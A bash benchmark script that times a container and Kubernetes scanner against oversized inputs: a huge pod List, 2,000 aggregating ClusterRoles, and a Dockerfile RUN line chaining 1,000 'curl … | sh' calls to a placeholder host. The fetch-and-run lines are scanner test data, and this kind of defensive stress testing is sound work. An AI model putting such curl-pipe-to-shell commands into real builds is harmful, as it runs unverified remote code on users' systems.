#!/usr/bin/env bash
# Hostile-input sizes, generated here, with wall time and peak RSS:
#   - a one-line JSON List of N pods (default 1,000)       goal < 200 MB
#   - a one-line Dockerfile RUN of 1,000 `curl … | sh`
#   - 2,000 ClusterRoles that each aggregate the same label  goal < 1 s
# Never fails on a missed goal.
set -euo pipefail
cd "$(dirname "$0")/.."
ROOT=$(pwd)
WORK="$ROOT/bench/.work/hostile"
PODS=${PODS:-1000}
# shellcheck source=bench/common.sh
source "$ROOT/bench/common.sh"
mkdir -p "$WORK"
python3 - "$WORK" "$PODS" <<'PY'
import json, sys
out, n = sys.argv[1], int(sys.argv[2])
items = [{"apiVersion": "v1", "kind": "Pod", "metadata": {"name": f"p{i}", "namespace": "x"},
          "spec": {"containers": [{"name": "c", "image": "a/b:1"}]}} for i in range(n)]
open(f"{out}/list.json", "w").write(json.dumps({"apiVersion": "v1", "kind": "List", "items": items}, separators=(",", ":")))
open(f"{out}/Dockerfile", "w").write("FROM alpine:3.20\nRUN " + " && ".join(f"curl -s https://x.example/{i} | sh" for i in range(1000)) + "\n")
roles = []
for i in range(2000):
    roles.append(f"---\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata:\n  name: r{i}\n  labels: {{agg: \"yes\"}}\naggregationRule:\n  clusterRoleSelectors:\n  - matchLabels: {{agg: \"yes\"}}\nrules:\n- apiGroups: [\"\"]\n  resources: [pods]\n  verbs: [get]\n")
open(f"{out}/roles.yaml", "w").write("".join(roles))
PY
measure() { # label, command...
  local label=$1; shift
  if [ -n "$TIME_BIN" ]; then
    "$TIME_BIN" -f "%e %M" -o "$WORK/time.txt" "$@" > "$WORK/out.txt" 2>/dev/null || true
    read -r secs kb < <(tail -1 "$WORK/time.txt")
    printf '%-44s wall %6.2f s  peak RSS %5d MB  output %s bytes\n' "$label" "$secs" $((kb / 1024)) "$(stat -c %s "$WORK/out.txt")"
  else
    "$@" > "$WORK/out.txt" 2>/dev/null || true
    printf '%-44s (no GNU time: no figures)\n' "$label"
  fi
}
measure "k8s: one-line List of $PODS pods (json)" "$BK" k8s --no-config -f json "$WORK/list.json"
measure "dockerfile: one-line RUN of 1,000 curl|sh" "$BK" dockerfile --no-config -f json "$WORK/Dockerfile"
measure "rbac: 2,000 aggregating ClusterRoles" "$BK" rbac --no-config -f json "$WORK/roles.yaml"
echo "goals: List < 200 MB; aggregation < 1 s"
